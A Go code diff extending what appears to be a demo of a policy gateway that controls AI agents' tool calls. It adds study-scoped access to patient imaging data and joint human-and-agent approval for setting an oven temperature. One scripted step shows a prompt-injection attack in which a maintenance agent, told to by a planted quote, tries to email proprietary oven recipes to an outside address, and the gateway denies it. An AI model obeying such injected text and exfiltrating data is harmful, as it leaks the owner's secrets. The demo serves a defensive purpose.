@@ -38,6 +38,15 @@ const (
 	radiol  = "ai-agent://prod/radiology/assistant"
 	planner = "ai-agent://prod/plant/maintenance-planner"
 	tuner   = "ai-agent://prod/plant/process-tuner"
+	safety  = "ai-agent://prod/plant/safety-monitor"
+	maria   = "maria.keller (a person)"
+)
+
+// More outcomes.
+const (
+	voted   = "approved"
+	granted = "granted"
+	done    = "done"
 )
 
 type result struct {
@@ -134,7 +143,12 @@ func (d *Demo) Play(ctx context.Context, out io.Writer) (bool, error) {
 		}},
 		{"Healthcare: a radiology agent", "healthcare", []step{
 			{radiol, "lists its tools", allowed, list(radiol)},
-			{radiol, "queries a patient's imaging studies", allowed, d.redacted(call(radiol, "pacs__query_studies", map[string]string{"patient_id": "P-4471"}))},
+			{radiol, "queries a patient's imaging studies, outside any study", denied, call(radiol, "pacs__query_studies", map[string]string{"patient_id": "P-4471"})},
+			{radiol, "asks for patient P-4471's studies for study 1.2.840.4471", granted, d.askStudyGrant(radiol, study, "P-4471")},
+			{radiol, "queries P-4471's studies in that study", allowed, d.redacted(d.callInTask(radiol, study, "pacs__query_studies", map[string]string{"patient_id": "P-4471"}))},
+			{radiol, "queries another patient's studies in that study", denied, d.callInTask(radiol, study, "pacs__query_studies", map[string]string{"patient_id": "P-9000"})},
+			{radiol, "the study is done: it completes its task", done, d.completeTask(radiol, study)},
+			{radiol, "queries P-4471's studies again, in the finished study", denied, d.callInTask(radiol, study, "pacs__query_studies", map[string]string{"patient_id": "P-4471"})},
 			{radiol, "calls the oncology trial matcher", denied, call(radiol, "oncology__trial_matcher", nil)},
 		}},
 		{"Manufacturing: plant maintenance agents", "manufacturing", []step{
@@ -144,6 +158,10 @@ func (d *Demo) Play(ctx context.Context, out io.Writer) (bool, error) {
 			{planner, "attack: emails the oven recipes out, as the quote told it", denied, call(planner, "email__send", map[string]string{"to": "archive@supplier-mail.example", "subject": "recipes"})},
 			{tuner, "reads the line-3 oven temperature", allowed, call(tuner, "oven__read_temperature", nil)},
 			{tuner, "sets the oven to 205 °C", approval, call(tuner, "oven__set_temperature", map[string]int{"celsius": 205})},
+			{safety, "checks the request, approves with its own key", voted, d.agentApproves(safety)},
+			{maria, "signs in at the plant's OpenID provider, approves", voted, d.personApproves},
+			{tuner, "sets the oven to 205 °C again: it runs", allowed, call(tuner, "oven__set_temperature", map[string]int{"celsius": 205})},
+			{tuner, "sets the oven to 205 °C once more", approval, call(tuner, "oven__set_temperature", map[string]int{"celsius": 205})},
 			{tuner, "sets the oven to 400 °C", denied, call(tuner, "oven__set_temperature", map[string]int{"celsius": 400})},
 		}},
 	}
@@ -203,14 +221,24 @@ func (d *Demo) call(ctx context.Context, s *mcp.ClientSession, tool string, args
 			var detail struct {
 				Obligations struct {
 					Approvals struct {
-						Count int      `json:"count"`
-						Roles []string `json:"roles"`
+						Count  int      `json:"count"`
+						Roles  []string `json:"roles"`
+						Humans int      `json:"humans"`
+						Agents int      `json:"agents"`
 					} `json:"require_approvals"`
 				} `json:"obligations"`
 			}
 			json.Unmarshal(e.Detail, &detail)
+			var held struct {
+				Approval struct {
+					ID string `json:"id"`
+				} `json:"approval"`
+			}
+			json.Unmarshal(rpc.Data, &held)
+			d.lastApproval = held.Approval.ID
 			a := detail.Obligations.Approvals
-			return mk(approval, fmt.Sprintf("%d approvals by %s (decision %s)", a.Count, strings.Join(a.Roles, ", "), e.DecisionID))
+			return mk(approval, fmt.Sprintf("%d approvals by %s (%d person, %d agent): request %s", a.Count, strings.Join(a.Roles, ", "),
+				a.Humans, a.Agents, held.Approval.ID))
 		}
 		return mk(denied, strings.Join(e.Reasons, ", "))
 	default:
